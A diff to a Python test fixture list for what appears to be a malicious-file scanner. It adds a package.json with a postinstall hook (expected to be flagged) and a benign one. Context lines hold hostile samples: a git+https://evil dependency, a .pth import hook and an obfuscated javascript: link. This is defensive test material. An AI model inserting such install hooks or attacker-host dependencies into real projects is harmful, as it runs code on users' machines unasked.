@@ -132,6 +132,8 @@ FILES: list[tuple[str, bytes, tuple[str, str] | None]] = [
     ("page.html", b"<meta http-equiv='refresh' content='0;url=x'>", ("MB7108", "medium")),
     ("tabs.html", b"<a href='java\tscript:x'>x</a>", ("MB7108", "medium")),
     ("marked.pth", b"\xef\xbb\xbfimport os\n", ("MB7108", "medium")),
+    ("js/package.json", b'{"name": "a", "scripts": {"postinstall": "node x.js"}}', ("MB7108", "medium")),
+    ("package.json", b'{"name": "a", "scripts": {"test": "node --test"}}', None),
     ("requirements.txt", b"torch\nx @ git+https://evil/x\n", ("MB7108", "medium")),
     ("sub/requirements.txt", b"torch>=2\nnumpy\n# see https://a\n", None),
     (".vscode/tasks.json", b"{}", ("MB7108", "medium")),
